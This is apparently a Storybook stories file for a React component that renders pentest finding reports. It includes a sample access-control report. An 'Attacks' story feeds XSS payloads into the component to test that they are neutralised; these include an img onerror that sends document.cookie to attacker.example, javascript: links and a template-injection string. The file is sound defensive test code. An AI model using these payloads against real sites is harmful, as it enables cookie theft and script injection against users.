import type { Meta, StoryObj } from '@storybook/react-vite';
import { useFinding } from 'cobalt-react';
import { FindingText } from 'cobalt-react/finding-text';
import { type ReactNode, useState } from 'react';
import { expect, userEvent, waitFor } from 'storybook/test';
import { useStoryWorld } from 'cobalt-react/storybook';

const meta = { title: 'Components/FindingText', component: FindingText } satisfies Meta<typeof FindingText>;
export default meta;

type Story = StoryObj<typeof meta>;

const report = `The endpoint \`GET /invoices/{id}\` checks **that** somebody is signed in, but not *who*.

# Steps

1. Sign in as any customer.
2. Ask for somebody else's invoice:

\`\`\`http
GET /invoices/1042 HTTP/1.1
Host: portal.example
\`\`\`

| role   | sees        |
| ------ | ----------- |
| viewer | **all**     |
| guest  | nothing     |

> Found on staging and in production.

- [x] Reported
- [ ] Fixed

See [the guide](https://owasp.org/Top10/).`;

/** What a pentester writes: GitHub's markdown. It has no look of its own; your styles for text apply. */
export const Report: Story = {
  args: { text: report, headingLevel: 2 },
  render: (args) => (
    <main className="page">
      <h1>Finding</h1>
      <FindingText {...args} />
    </main>
  ),
};

const attacks = `<script>alert(document.domain)</script>

<img src=x onerror="fetch('https://attacker.example/?c='+document.cookie)">

[click me](javascript:alert(document.cookie)) · [report](data:text/html;base64,PHNjcmlwdD4=) · [login](https://bank.example@attacker.example)

![pixel](https://attacker.example/pixel.png) <CobaltImageAttachment at_unknown>

<style>*{display:none!important}</style>

\u202Egpj.exe\u202C {{constructor.constructor("alert(1)")()}}`;

/** What a finding is made of: nothing of it runs, loads or leads anywhere, and all of it can be read. */
export const Attacks: Story = {
  args: { text: attacks },
  render: (args) => (
    <main className="page">
      <h1>Attacks</h1>
      <FindingText {...args} />
    </main>
  ),
  async play({ canvasElement }) {
    const text = canvasElement.querySelector('[data-cobalt-finding-text]');
    await expect(text?.querySelectorAll('a, img, script, style, iframe')).toHaveLength(0);
    await expect(text).toHaveTextContent('javascript:alert(document.cookie)');
  },
};

/** Links to images live for 10 minutes. Then the finding is read once more; here that brings no better link. */
export const ExpiredImage: Story = {
  args: { text: '' },
  render: () => <FindingWithImage />,
  async play({ canvas, canvasElement }) {
    await canvas.findByRole('heading', { name: 'Description' });
    const words = () => canvasElement.querySelector('[data-part="image-placeholder"]')?.textContent;
    await waitFor(() => expect(words()).toContain('This image could not be loaded'), { timeout: 5000 });
    await userEvent.click(canvas.getByRole('button', { name: 'Use the app’s own copy' }));
    await canvas.findByRole('img');
  },
};

/** A picture that needs no network. */
const PICTURE = `data:image/svg+xml,${encodeURIComponent(
  '<svg xmlns="http://www.w3.org/2000/svg" width="360" height="90"><rect width="360" height="90" rx="8" fill="#7aa2c8"/></svg>',
)}`;

function FindingWithImage(): ReactNode {
  const { mock } = useStoryWorld();
  const { id } = mock.data.findings.find(({ attachments }) => attachments.length > 0) ?? { id: '' };
  const { data, refetch } = useFinding({ id, image_attachments_render_format: 'token' });
  const [isOwnCopy, setIsOwnCopy] = useState(false);
  if (!data) return null;
  return (
    <main className="page">
      <h1>Finding</h1>
      <h2>Description</h2>
      <FindingText
        text={data.description}
        attachments={data.attachments}
        refetch={refetch}
        imageUrl={isOwnCopy ? () => PICTURE : undefined}
      />
      <button className="plain" type="button" onClick={() => setIsOwnCopy(true)}>
        Use the app’s own copy
      </button>
    </main>
  );
}
